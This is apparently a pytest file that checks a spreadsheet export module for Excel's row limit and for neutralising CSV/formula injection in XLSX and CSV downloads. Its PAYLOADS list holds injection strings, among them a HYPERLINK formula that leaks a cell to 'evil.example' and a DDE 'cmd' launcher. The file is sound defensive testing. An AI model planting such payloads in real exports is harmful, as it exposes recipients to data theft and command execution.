"""Spreadsheets: Excel's row limit, and formula injection: no text cell of any download or attachment can be
read as a formula (DESIGN.md, convention 6), in XLSX and CSV alike, while numbers stay numbers."""

from __future__ import annotations

from decimal import Decimal

import pandas as pd
import pytest
from sqlalchemy import Engine, select, update

from core.db import unit_of_work
from core.errors import SchemaError
from core.exports import ExportFilters, export_orders, vendor_export
from core.models import Order, OrderLine, OrderPersonalData
from core.spreadsheets import MAX_XLSX_ROWS, neutralise, write_xlsx
from tests.factories import make_event, make_item, make_user
from tests.factories.exports import make_vendor, read_csv, read_sheets, records, route
from tests.factories.orders import place

# Known CSV/formula injection payloads; each must come back as text with a leading quote.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "=1+1",
    "\t=1",
    "\r=1",
    " =1+1",  # leading whitespace: some programs trim cells before reading them
    "\n@SUM(1)",
]


SAFE = ["Ada Lovelace", "a=b", "3-4", "e-mail me", "'already quoted", "＝1+1"]


def test_a_sheet_beyond_excels_row_limit_is_refused() -> None:
    with pytest.raises(SchemaError, match="at most 1,048,575"):
        write_xlsx({"Line items": pd.DataFrame({"Quantity": range(MAX_XLSX_ROWS + 1)})})


# --- formula injection -----------------------------------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_that_a_spreadsheet_would_read_as_a_formula_gets_a_leading_quote(payload: str) -> None:
    assert neutralise(payload) == "'" + payload


@pytest.mark.parametrize("text", SAFE)
def test_other_text_is_left_as_it_is(text: str) -> None:
    assert neutralise(text) == text


INJECTION_FORM = {"fields": [
    {"key": "name", "type": "short_text", "label": "Name", "personal": True, "purpose": "To label the order."},
    {"key": "note", "type": "short_text", "label": "@label"},
    {"key": "count", "type": "number", "label": "How many guests", "min_value": -10},
    {"key": "items", "type": "items", "label": "Items", "required": True},
]}


def test_formula_payloads_come_back_as_quoted_text_from_xlsx_and_csv_and_numbers_stay_numbers(
    engine: Engine,
) -> None:
    with unit_of_work(engine) as session:
        event = make_event(session, form=INJECTION_FORM)
        make_item(session, event, "tshirt", name="=SUM(A1:A9)", dimensions=[], price=Decimal("12.50"))
        alice = make_user(session, "alice", member_of=[event])
        vendor = make_vendor(session, visible_fields=["name", "note"])
        route(session, event, vendor, "tshirt")
        for index, payload in enumerate(PAYLOADS):
            reference = place(session, event, f"k{index}", items=[{"item": "tshirt", "options": {}, "quantity": 1}],
                              name="placeholder", note="placeholder", count=1)
            order = session.scalars(select(Order).where(Order.reference == reference)).one()
            # Written past validation (which strips and refuses some of them): stored data may come from anywhere.
            order.answers = {"note": payload, "count": -7}
            session.execute(update(OrderPersonalData).where(OrderPersonalData.order_id == order.id)
                            .values(answers={"name": payload}))
            if index == 0:
                session.execute(update(OrderLine).where(OrderLine.order_id == order.id)
                                .values(quantity=-2, unit_price=Decimal("-5.00")))
        event_id, vendor_id = event.id, vendor.id
    quoted = ["'" + payload for payload in PAYLOADS]
    with unit_of_work(engine) as session:
        xlsx = export_orders(session, alice, event_id, ExportFilters(), "xlsx")
        line_csv = export_orders(session, alice, event_id, ExportFilters(), "csv")
        vendor_csv = vendor_export(session, alice, event_id, vendor_id, fmt="csv")
        vendor_xlsx = vendor_export(session, alice, event_id, vendor_id, fmt="xlsx")

    sheets = read_sheets(xlsx.data)  # fails on any formula cell
    orders = records(sheets["Orders"])
    assert list(orders[0]) == ["Reference", "Placed at", "Status", "Total", "Name", "'@label", "How many guests"]
    assert [row["Name"] for row in orders] == quoted
    assert [row["'@label"] for row in orders] == quoted
    assert {row["How many guests"] for row in orders} == {-7}
    lines = records(sheets["Line items"])
    assert {row["Item"] for row in lines} == {"'=SUM(A1:A9)"}
    assert (lines[0]["Quantity"], lines[0]["Unit price"]) == (-2, -5)
    assert orders[0]["Total"] == 10  # -2 × -5
    assert sheets["Summary"][1][0] == "'=SUM(A1:A9)"

    csv_rows = read_csv(line_csv.data)
    assert {row[1] for row in csv_rows[1:]} == {"'=SUM(A1:A9)"}
    assert csv_rows[1][3:5] == [-2.0, -5.0]  # unquoted, so read as numbers

    vendor_rows = read_csv(vendor_csv.data)
    assert vendor_rows[0] == ["Reference", "Item", "Variant", "Quantity", "Status", "Name", "'@label"]
    assert [row[5] for row in vendor_rows[1:]] == quoted
    assert [row[6] for row in vendor_rows[1:]] == quoted
    assert [row["Name"] for row in records(read_sheets(vendor_xlsx.data)["Line items"])] == quoted
